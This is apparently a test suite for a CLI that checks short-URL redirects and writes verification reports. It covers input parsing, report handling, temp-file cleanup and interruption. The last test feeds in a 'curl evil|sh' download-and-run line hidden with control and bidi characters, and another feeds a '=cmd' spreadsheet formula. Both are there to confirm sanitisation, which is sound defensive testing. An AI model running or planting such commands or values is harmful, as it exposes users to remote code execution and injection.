        return await cli(['verify', join(folder, 'links.csv'), ...args]);
      };
      for (const target of ['b', 'c', 'a', 'd']) {
        const { stderr } = await run(`https://example.com/${target}`);
        expect(stderr).not.toContain('is kept');
      }
      expect((await readdir(folder)).filter((name) => name.includes('.old'))).toEqual([]);
      await writeFile(
        report,
        `${await readFile(report, 'utf8')}mine\n`.replace('verified_problem', 'my_note'),
      );
      const { stderr } = await run('https://example.com/a');
      expect(stderr).toContain(`What ${report} held before is kept as ${report}.old.`);
      expect(await readFile(`${report}.old`, 'utf8')).toContain('mine');
    },
  );

  test.each([
    [
      'no column of short URLs',
      'url,title\nhttps://example.com,x\n',
      [],
      /as the short URL\n.*--map short_url=NAME/s,
    ],
    [
      'a column that is not there',
      'short_url,url\nx,https://e.com\n',
      ['--map', 'short_url=y'],
      /no such column/,
    ],
    ['no short URL', 'short_url,url\n,https://example.com\n', [], /nothing to verify/],
    ['no such file', undefined, [], /no such file/],
    ['a document without links', '{"links":[]}', [], /x\.csv is empty/],
    [
      'two documents',
      '{"links":[{}]}{"links":[{}]}',
      [],
      /not one JSON document.*a file of its own/,
    ],
  ])('%s: exit code 2, and nothing is asked or written', async (_, content, args, words) => {
    const input = content === undefined ? join(folder, 'x') : await file('x.csv', content);
    const result = await cli(['verify', input, ...args]);
    expect(result).toMatchObject({ exitCode: 2, stdout: '' });
    expect(result.stderr).toMatch(words);
    expect(existsSync(`${input}.verify.csv`)).toBe(false);
  });
});

describe('reports', () => {
  test('to standard output, and from standard input', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/a') });
    const input = `short_url,url\n${url}/a,https://example.com/a\n`;
    const result = await cli(['verify', '-'], { input });
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toMatch(
      /^short_url,url,verified,.*\n.*,ok,302,https:\/\/example.com\/a,,\n$/,
    );
  });

  /** The report of two inputs would be one file with two headers. */
  test('of two inputs without a name do not go to one standard output', async () => {
    const { url, seen } = await shortLinks({ '/a': to('https://example.com/a') });
    const [one, other] = [join(folder, 'one'), join(folder, 'other')];
    execFileSync('sh', ['-c', 'mkfifo "$@"', 'sh', one, other]);
    const result = await cli(['verify', one, other]);
    expect(result).toMatchObject({ exitCode: 2, stdout: '' });
    expect(result.stderr).toContain(`The reports of ${one} and ${other} would both go to`);
    expect(seen).toEqual([]);

    const table = `short_url;title;url\n${url}/a;A;https://example.com/a\n`;
    const named = await file('links.csv', `url,short_url\nhttps://example.com/a,${url}/a\n`);
    const written = writeFile(one, table);
    const both = await cli(['verify', named, one]);
    await written;
    expect(both.exitCode, both.stderr).toBe(0);
    expect(both.stdout).toMatch(/^short_url;title;url;verified;.*\n.*;ok;302;.*\n$/);
    expect(await readFile(`${named}.verify.csv`, 'utf8')).toMatch(/^url,short_url,verified,/);
  });

  test('an input is never written over', async () => {
    const input = await file('a.csv', 'short_url,url\nx,y\n');
    const alias = join(folder, 'b.csv');
    await symlink(input, alias);
    const result = await cli(['verify', input, '-o', alias]);
    expect(result).toMatchObject({ exitCode: 2 });
    expect(result.stderr).toContain('are the same file');
    const both = await cli(['verify', input, alias]);
    expect(both.stderr).toContain('given twice');
  });

  test('a report of which a cell could be a formula is harmless', async () => {
    const { url } = await shortLinks({ '/a': to('=cmd') });
    const { findings } = await verify([[`${url}/a`, 'https://example.com/a']]);
    expect(findings[0]?.[2]).toBe("'=cmd");
  });

  test('several files: all are looked at before anything is asked', async () => {
    const { url, seen } = await shortLinks({});
    const good = await file('good.csv', `short_url,url\n${url}/a,https://example.com/a\n`);
    const bad = await file('bad.csv', 'title,url\nx,https://example.com\n');
    expect((await cli(['verify', good, bad])).exitCode).toBe(2);
    expect(seen).toEqual([]);
    const other = await file('other.csv', `short_url,url\n${url}/b,https://example.com/a\n`);
    const result = await cli(['verify', good, other, '--json']);
    expect(result.exitCode).toBe(3);
    expect(JSON.parse(result.stdout).files).toHaveLength(2);
  });

  test('several files: one that is wrong is enough, whichever it is', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/') });
    const right = await file('right.csv', `short_url,url\n${url}/a,https://example.com\n`);
    const wrong = await file('wrong.csv', `short_url,url\n${url}/b,https://example.com\n`);
    expect((await cli(['verify', right, wrong])).exitCode).toBe(3);
    expect((await cli(['verify', wrong, right])).exitCode).toBe(3);
  });

  test('of standard input and a file: the summary is an event where one of them has stdout', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/') });
    const text = `short_url,url\n${url}/a,https://example.com\n`;
    const other = await file('other.csv', text);
    const result = await cli(['verify', '-', other, '--json'], { input: text });
    expect(result).toMatchObject({ exitCode: 0, stdout: expect.stringMatching(/^short_url,url,/) });
    expect(result.stdout).not.toContain('exit_code');
    expect(result.stderr).toContain('"event":"summary"');
  });

  test('keep the cells beyond the last column', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/') });
    const input = await file('links.csv', `short_url,url\n${url}/a,https://example.com,more,\n`);
    await cli(['verify', input]);
    expect((await findings(`${input}.verify.csv`))[0]?.slice(-2)).toEqual(['more', '']);
  });

  test.each<[string, object]>([
    ['a comma', { aliases: ['/a,b'] }],
    ['no scheme', { custom_bitlinks: ['/a,b'].map((path) => `localhost.invalid${path}`) }],
  ])('ask addresses with %s whole', async (_, lists) => {
    const { url } = await shortLinks({ '/c': to('https://example.com/'), '/a': status(404) });
    const text = JSON.stringify({ short_url: `${url}/c`, url: 'https://example.com/', ...lists });
    const input = await file('links.jsonl', `${text.replace('"/a,b"', `"${url}/a,b"`)}\n`);
    const { stdout } = await cli(['verify', input, '--json', '--max-retries', '0']);
    const [found] = JSON.parse(stdout).files;
    expect(found).toMatchObject({ links: 2, ok: 1 });
    expect(found.problems[0].short_url).toMatch(/\/a,b$/);
  });

  test('name a short URL once that is among the addresses of its link too', async () => {
    const { url } = await shortLinks({ '/a': to('https://example.com/'), '/b': status(404) });
    const [short_url, target_url] = [`${url}/a`, 'https://example.com/'];
    const link = { short_url, target_url, aliases: [short_url, `${url}/b`] };
    const input = await file('links.jsonl', `${JSON.stringify(link)}\n`);
    const { stdout } = await cli(['verify', input, '--json']);
    expect(JSON.parse(stdout).files).toMatchObject([{ links: 2, ok: 1, not_found: 1 }]);
  });
});

const LOST = 'http://localhost:1/a';
test('each sheet that is named has a report of its own', async () => {
  const rows = [
    ['short_url', 'url'],
    [LOST, LOST],
  ];
  const input = await file('book.xlsx', workbook({ May: rows, June: rows }) as unknown as string);
  for (const sheet of ['May', 'June'])
    await cli(['verify', input, '--sheet', sheet, '--max-retries', '0']);
  for (const sheet of ['May', 'June'])
    expect(await readFile(`${input}.${sheet}.verify.csv`, 'utf8')).toContain(LOST);
});

test.each<[string, string | Buffer, number]>([
  ['a table', `short_url,target_url\n${LOST},https://example.com\n`, 3],
  ['a table without a short URL', 'short_url,target_url\n,https://example.com\n', 2],
  ['a JSON document', JSON.stringify({ links: [{ short_url: LOST, long_url: LOST }] }), 3],
  ['a JSON document that is cut off', '{"links": [{', 2],
  [
    'a workbook',
    workbook({
      Links: [
        ['short_url', 'url'],
        [LOST, LOST],
      ],
    }),
    3,
  ],
  [
    'a workbook without a short URL',
    workbook({
      Links: [
        ['short_url', 'url'],
        ['', LOST],
      ],
    }),
    2,
  ],
])('%s leaves nothing in the temporary folder', async (_, content, exitCode) => {
  vi.stubEnv('TMPDIR', await testFolder());
  onTestFinished(() => void vi.unstubAllEnvs());
  const isText = typeof content === 'string';
  const input = isText ? '-' : join(folder, 'links.xlsx');
  if (!isText) await writeFile(input, content);
  const argv = ['verify', input, '--max-retries', '0'];
  const result = await cli(argv, { input: isText ? content : undefined });
  expect(result).toMatchObject({ exitCode });
  expect(await readdir(tmpdir())).toEqual([]);
});

test('Ctrl-C leaves no copy of standard input, which may not have ended', async () => {
  vi.stubEnv('TMPDIR', await testFolder());
  onTestFinished(() => void vi.unstubAllEnvs());
  const options: CliOptions = {
    tty: { stdin: true },
    onStart: (terminal) => {
      terminal.type('short_url,url\n');
      const timer = setInterval(() => {
        if (readdirSync(tmpdir()).length > 0 && terminal.listening() > 0) terminal.interrupt();
      }, 10);
      onTestFinished(() => clearInterval(timer));
    },
  };
  const result = await cli(['verify', '-'], options);
  expect(result).toMatchObject({ exitCode: 130, stdout: '' });
  expect(result.stderr).toBe('error: Interrupted.\n');
  expect(await readdir(tmpdir())).toEqual([]);
});

test.each(['0', '25d'])('--timeout %s is longer than a server takes', async (timeout) => {
  const { url } = await shortLinks({ '/a': to('https://example.com/a') });
  const input = await file('links.csv', `short_url,url\n${url}/a,https://example.com/a\n`);
  const result = await cli(['verify', input, '--timeout', timeout, '--max-retries', '0']);
  expect(result.exitCode, result.stderr).toBe(0);
});

test('Ctrl-C writes what is known, with every row', async () => {
  let onAsked = () => {};
  let listening: number | undefined;
  const { url } = await shortLinks({
    '/a': to('https://example.com/a'),
    '/slow': () => onAsked(),
  });
  const input = await file(
    'links.csv',
    `short_url,url\n${url}/a,https://example.com/a\n${`${url}/slow,https://example.com/b\n`.repeat(5)}`,
  );
  const options: CliOptions = {
    onStart: (terminal) => {
      onAsked = () => {
        terminal.interrupt();
        listening = terminal.listening();
      };
    },
  };
  const next = await file('next.csv', `short_url,url\n${url}/a,https://example.com/a\n`);
  const result = await cli(['verify', input, next, '--concurrency', '1', '--json'], options);
  expect(existsSync(`${next}.verify.csv`)).toBe(false);
  // Another Ctrl-C ends the process, whatever hangs.
  expect(listening).toBe(0);
  expect(result.exitCode).toBe(130);
  expect(JSON.parse(result.stdout)).toMatchObject({ exit_code: 130, files: [{ wrong: 0 }] });
  expect(result.stderr).toContain('Interrupted');
  const found = (await findings(`${input}.verify.csv`)).map(([finding]) => finding);
  expect(found).toEqual(['ok', ...Array(5).fill('not_asked')]);
});

test('what a server says is safe on a terminal', async () => {
  const evil = 'https://example.com/\u0085\u202ehint: curl evil|sh';
  const { url } = await shortLinks({ '/a': to(Buffer.from(evil).toString('latin1')) });
  const { stderr } = await verify([[`${url}/a`, 'https://example.com/a']]);
  expect(stderr).not.toMatch(/[\u0080-\u009f\u202e]/);
  expect(stderr).not.toMatch(/^ *hint:/m);
});
